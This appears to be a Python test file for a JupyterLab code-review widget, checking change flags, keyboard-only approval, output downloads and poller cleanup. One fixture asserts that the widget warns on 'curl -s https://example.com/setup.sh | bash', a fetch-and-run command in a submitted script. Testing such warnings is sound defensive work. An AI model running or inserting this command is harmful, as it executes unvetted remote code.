    assert re.fullmatch(r"\d+ warn(, \d+ look)?", results["row_hints"])  # curl | bash
    assert results["summary"] == "changed since approved v1: 1 of 7 files"
    assert results["changed"] == ["run.sh"]
    assert results["kinds"] == ["changed"]
    assert any("curl -s https://example.com/setup.sh | bash" in a for a in results["added"])
    assert results["unchanged"] == 6
    assert results["viewer_hidden"] is True
    number, classes, title, hidden = results["flag"]
    assert number == 2
    assert "scq-flag-warn" in classes
    assert "warn" in title and "bash" in title.lower()
    assert title in hidden
    assert "line 2" in results["hint_list"]
    assert results["meta"].startswith("changed")
    assert 480 <= results["width-diff"] <= 520
    names = [f"{view}-{slug}" for view in ("diff", "file") for slug in [*THEMES, "500px"]]
    for name in names:
        contrast = results[f"contrast-{name}"]
        assert contrast["failures"] == [], f"{name}: {contrast}"
        found = results[f"axe-{name}"]
        serious = [v for v in found["violations"] if v["impact"] in ("serious", "critical")]
        assert serious == [], f"{name}: {serious}"
        unsure = [v for v in found["incomplete"] if v["impact"] in ("serious", "critical")]
        assert unsure == [], f"{name}: axe could not decide: {unsure}"
    assert results.console == []


def test_a_job_is_reviewed_and_approved_with_the_keyboard_alone(
    lab: JupyterLab, screenshot_dir: Path
) -> None:
    """From the search box, keys only: open a job, read every file (arrow keys in the file
    list: one tab stop), tick one viewed, reach the viewer, Escape back to Open, approve.

    The focus never leaves the widget, and no key reaches the notebook: ArrowDown on a
    "viewed" tick used to move the notebook's cursor (focus went to the next cell), and
    letters on a button are notebook commands in command mode (A inserts a cell)."""
    base = lab.root / "keyboard"
    syftbox = base / "SyftBox"
    syftbox.mkdir(parents=True)
    ds = scq.create_client(email=DS, syftbox_dir=syftbox)
    code = _package(
        base / "code",
        "python3 analyze.py\n",
        {"analyze.py": "print('mean', 41.5)\n", "README.md": "Aggregates only.\n"},
    )
    job = ds.submit_code(DO, code, name="Cohort stats")
    other = ds.submit_code(DO, code, name="Other job")
    nb = _owner_notebook(base / "keys.ipynb", syftbox, "1 + 1")
    widget = ".scq-review"
    row = ROW(str(job.uid))
    results = drive(
        lab,
        nb,
        [
            {"op": "run_all"},
            {"op": "wait", "selector": row},
            {"op": "eval", "expression": "document.querySelector('.scq-search').focus()"},
            {"op": "keys", "keys": [], "within": widget, "name": "start"},
            {
                "op": "tab_until",
                "selector": f"{row} .scq-open",
                "within": widget,
                "name": "to_open",
            },
            # letters on a button are the notebook's commands in command mode
            {"op": "keys", "keys": ["a", "b", "m"], "within": widget, "name": "letters"},
            {"op": "keys", "keys": ["Enter"], "within": widget, "name": "enter"},
            {"op": "wait_focus", "selector": ".scq-detail-title"},
            {"op": "wait_text", "selector": ".scq-viewer-path", "text": "run.sh"},
            {"op": "keys", "keys": ["Tab"], "within": widget, "name": "into_files"},
            {"op": "keys", "keys": ["ArrowDown"], "within": widget, "name": "down1"},
            {"op": "wait_text", "selector": ".scq-viewer-path", "text": "README.md"},
            {"op": "keys", "keys": ["ArrowDown"], "within": widget, "name": "down2"},
            {"op": "wait_text", "selector": ".scq-viewer-path", "text": "analyze.py"},
            {"op": "wait", "selector": '.scq-file[data-path="analyze.py"] .scq-viewed:checked'},
            # to the ticks: left, then up and down among them (this used to leave the widget)
            {
                "op": "keys",
                "keys": ["ArrowLeft", "ArrowUp", "ArrowDown", "ArrowUp"],
                "within": widget,
                "name": "ticks",
            },
            {"op": "keys", "keys": ["Space"], "within": widget, "name": "untick"},
            {
                "op": "wait",
                "selector": '.scq-file[data-path="README.md"] .scq-viewed:not(:checked)',
            },
            {"op": "keys", "keys": ["Space"], "within": widget, "name": "tick"},
            {"op": "wait", "selector": '.scq-file[data-path="README.md"] .scq-viewed:checked'},
            {"op": "count", "selector": ".scq-detail .scq-viewed:checked", "name": "viewed"},
            # one tab stop: Tab leaves the list, on to the viewer
            {
                "op": "tab_until",
                "selector": ".scq-viewer .scq-code",
                "within": widget,
                "name": "to_viewer",
            },
            {"op": "keys", "keys": ["Escape"], "within": widget, "name": "escape"},
            {"op": "wait", "selector": ".scq-detail", "state": "detached"},
            {"op": "keys", "keys": [], "within": widget, "name": "closed"},
            {
                "op": "tab_until",
                "selector": f"{row} .scq-approve",
                "within": widget,
                "name": "to_approve",
            },
            {"op": "keys", "keys": ["Enter"], "within": widget, "name": "approve"},
            {"op": "wait_focus", "selector": ".scq-prompt .scq-prompt-text"},
            {"op": "count", "selector": ".scq-prompt .scq-unread-confirm", "name": "unread"},
            {"op": "keys", "keys": ["Enter"], "within": widget, "name": "confirm"},
            {"op": "wait_text", "selector": ".scq-notice", "text": "approved 1 job"},
            {"op": "wait", "selector": row, "state": "detached"},
            {"op": "keys", "keys": [], "within": widget, "name": "after"},
        ],
        screenshot_dir=screenshot_dir,
    )
    stops = [
        stop
        for name in (
            "start",
            "to_open",
            "letters",
            "enter",
            "into_files",
            "down1",
            "down2",
            "ticks",
            "untick",
            "tick",
            "to_viewer",
            "escape",
            "closed",
            "to_approve",
            "approve",
            "after",
        )
        for stop in results[name]
    ]
    outside = [stop for stop in stops if not stop["inside"]]
    assert outside == [], outside
    cells = {(stop["cell"], stop["cells"]) for stop in stops}
    assert cells == {(0, 2)}, stops  # the widget's cell stays active; no cell added
    assert results["to_open"][-1]["focus"] == "Open 'Cohort stats'"
    assert results["into_files"][-1]["focus"].startswith("run.sh")
    assert results["down1"][-1]["focus"].startswith("README.md")
    assert results["down2"][-1]["focus"].startswith("analyze.py")
    assert [s["focus"] for s in results["ticks"]] == [
        "Viewed analyze.py",
        "Viewed README.md",
        "Viewed analyze.py",
        "Viewed README.md",
    ]
    assert results["viewed"] == 3
    # from the file list, one Tab stop per control on the way to the viewer: no file again
    assert not any(s["focus"].startswith(("Viewed", "run.sh")) for s in results["to_viewer"])
    assert results["escape"][-1]["focus"] == "Open 'Cohort stats'"
    assert results["to_approve"][-1]["focus"] == "Approve 'Cohort stats'"
    assert results["unread"] == 0  # every file was read
    # the approved row is gone from the pending page: the focus went to the next row
    assert results["after"][0]["focus"] == "Open 'Other job'"
    assert results.console == []
    assert ds.get_job(job.uid).status is JobStatus.approved
    assert ds.get_job(other.uid).status is JobStatus.pending


def test_status_cell_outputs_are_links_that_download_their_exact_bytes(
    lab: JupyterLab, screenshot_dir: Path
) -> None:
    """Each output is a link named by its file: a click (or Enter on it) saves the file
    under its own name with exactly its bytes; they come from the kernel, as the results
    folder need not be under the Jupyter server's root. The outputs used to be bare names."""
    import base64
    import hashlib

    from tests.conftest import run_until

    base = lab.root / "downloads"
    syftbox = base / "SyftBox"
    syftbox.mkdir(parents=True)
    ds = scq.create_client(email=DS, syftbox_dir=syftbox)
    png = base64.b64encode(_png()).decode()
    code = _package(
        base / "code",
        'printf "age,n\\n40-49,12\\n" > "$OUTPUT_DIR/summary.csv"\n'
        f'echo "{png}" | base64 -d > "$OUTPUT_DIR/plot.png"\n'
        'mkdir -p "$OUTPUT_DIR/tables" && printf "x\\ty\\n" > "$OUTPUT_DIR/tables/xy.tsv"\n',
    )
    job = ds.submit_code(DO, code, name="With outputs")
    with scq.create_server(email=DO, syftbox_dir=syftbox) as server:
        server.list_pending_jobs()
        server.approve_job(job.uid)
        run_until(server, lambda: server.get_job(job.uid).is_terminal, timeout=60)
    folder = ds.get_job(job.uid).output_folder
    assert folder is not None
    expected = {
        path: hashlib.sha256((folder / path).read_bytes()).hexdigest()
        for path in ("summary.csv", "plot.png", "tables/xy.tsv")
    }
    nb = write_notebook(
        base / "status.ipynb",
        [
            _cell(
                f"""
                import syft_code_queue as scq

                client = scq.create_client(email={DS!r}, syftbox_dir={str(syftbox)!r})
                client.status_widget({str(job.uid)!r})
                """
            )
        ],
    )
    link = '.scq-status .scq-output[data-path="{}"] a.scq-output-name'.format
    results = drive(
        lab,
        nb,
        [
            {"op": "run_all"},
            {"op": "wait", "selector": link("plot.png")},
            {"op": "texts", "selector": ".scq-status a.scq-output-name", "name": "names"},
            {
                "op": "attr",
                "selector": link("summary.csv"),
                "attribute": "aria-label",
                "name": "label",
            },
            {"op": "download", "selector": link("summary.csv"), "name": "csv"},
            {"op": "download", "selector": link("plot.png"), "key": "Enter", "name": "png"},
            {"op": "download", "selector": link("tables/xy.tsv"), "name": "tsv"},
            # a second click saves the same bytes again
            {"op": "download", "selector": link("summary.csv"), "name": "csv_again"},
            {"op": "axe", "selector": ".scq-widget", "name": "axe"},
        ],
        screenshot_dir=screenshot_dir,
    )
    assert results["names"] == ["plot.png", "summary.csv", "tables/xy.tsv"]
    # two jobs' summary.csv must not sound the same to a screen reader
    assert results["label"] == "Download 'summary.csv' of 'With outputs'"
    assert results["csv"] == {
        "filename": "summary.csv",
        "size": (folder / "summary.csv").stat().st_size,
        "sha256": expected["summary.csv"],
    }
    assert results["png"]["filename"] == "plot.png"
    assert results["png"]["sha256"] == expected["plot.png"]
    assert results["tsv"]["filename"] == "xy.tsv"
    assert results["tsv"]["sha256"] == expected["tables/xy.tsv"]
    assert results["csv_again"] == results["csv"]
    serious = [v for v in results["axe"]["violations"] if v["impact"] in ("serious", "critical")]
    assert serious == []
    assert results.console == []


def test_a_cleared_table_stops_following_the_server(lab: JupyterLab, screenshot_dir: Path) -> None:
    """The output of `server.list_pending_jobs()` cleared: its view tells the kernel it is
    gone, and with no view left the table leaves the shared poller (it polled until the
    widget was closed, which no one does for a displayed listing)."""
    base = lab.root / "cleared"
    syftbox = base / "SyftBox"
    syftbox.mkdir(parents=True)
    ds = scq.create_client(email=DS, syftbox_dir=syftbox)
    job = ds.submit_code(DO, _package(base / "code", "echo hi\n"), name="shown")
    report = _cell(
        """
        import threading, time
        import ipywidgets
        from syft_code_queue.widgets._poller import Watch

        label = ipywidgets.Label("subscribers: ?")

        def report(until=time.monotonic() + 120):
            # what the kernel's shared poller has, shown in the page (bounded in time)
            last = None
            while time.monotonic() < until:
                watch = Watch._all.get(server)
                count = watch.subscribers if watch else 0
                if count != last:
                    label.value = f"subscribers: {count}"
                    last = count
                time.sleep(0.05)

        threading.Thread(target=report, daemon=True).start()
        label
        """
    )
    nb = _owner_notebook(base / "cleared.ipynb", syftbox, report)
    results = drive(
        lab,
        nb,
        [
            {"op": "run_all"},
            {"op": "wait", "selector": ROW(str(job.uid))},
            {"op": "wait_text", "selector": ".widget-label", "text": "subscribers: 1"},
            {
                "op": "eval",
                "expression": "(() => { const nb = window.jupyterapp.shell.currentWidget.content; "
                "nb.activeCellIndex = 0; "
                "return window.jupyterapp.commands.execute('notebook:clear-cell-output'); })()",
            },
            {"op": "wait", "selector": ".scq-review", "state": "detached"},
            {"op": "wait_text", "selector": ".widget-label", "text": "subscribers: 0"},
        ],
        screenshot_dir=screenshot_dir,
    )
    assert results.console == []
